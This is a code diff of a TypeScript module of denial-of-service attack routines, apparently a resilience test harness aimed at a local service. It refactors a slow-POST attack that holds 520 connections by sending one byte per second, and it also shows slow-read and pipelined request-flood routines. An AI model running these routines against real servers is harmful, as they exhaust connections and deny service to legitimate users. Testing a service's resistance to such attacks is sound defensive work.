@@ -75,7 +75,7 @@ export const slowReaders = (name: string, count: number): Attack => ({
     // Whoever reads nothing hears of no end either, so the system is asked.
     const open = pause(lasts * 1000 - 500).then(() => connectionsOfAttacker(door.port));
     await hold(door, { count, seconds: lasts, use });
-    return `${await open} of ${count} open after ${lasts} s`;
+    return `${await open} open after ${lasts} s`;
   },
 });
 
@@ -85,16 +85,19 @@ function connectionsOfAttacker(port: number): number {
   return readFileSync("/proc/net/tcp", "latin1").split(new RegExp(`:${local} 0200007F:[0-9A-F]{4} 01 `)).length - 1;
 }
 
-/** A body of which a letter comes each second. */
-export const bodyByLetters: Attack["run"] = async ({ door }, { seconds }) => {
-  const use = (socket: Socket, index: number) => {
-    const line = `POST /api/v1/assessments?x=${index} HTTP/1.1`;
-    socket.write(head(line, door.host, "Content-Type: application/json", "Content-Length: 60000"));
-    const timer = setInterval(() => socket.write(" "), 1_000);
-    socket.once("close", () => clearInterval(timer));
-  };
-  return saidOfHeld(await hold(door, { count: 520, seconds, use }));
-};
+/** Bodies of which a letter comes each second. @param path a number goes behind it */
+export const bodiesByLetters = (name: string, what: string, path: string): Attack => ({
+  name,
+  what: `${what} letter by letter, 520 connections`,
+  run: async ({ door }, { seconds }) => {
+    const use = (socket: Socket, index: number) => {
+      socket.write(head(`POST ${path}${index} HTTP/1.1`, door.host, "Content-Type: application/json", "Content-Length: 60000"));
+      const timer = setInterval(() => socket.write(" "), 1_000);
+      socket.once("close", () => clearInterval(timer));
+    };
+    return saidOfHeld(await hold(door, { count: 520, seconds, use }));
+  },
+});
 
 /** Requests without a pause over few connections, none of which waits for an answer. */
 export const pipelined: Attack["run"] = async ({ door }, { seconds }) => {
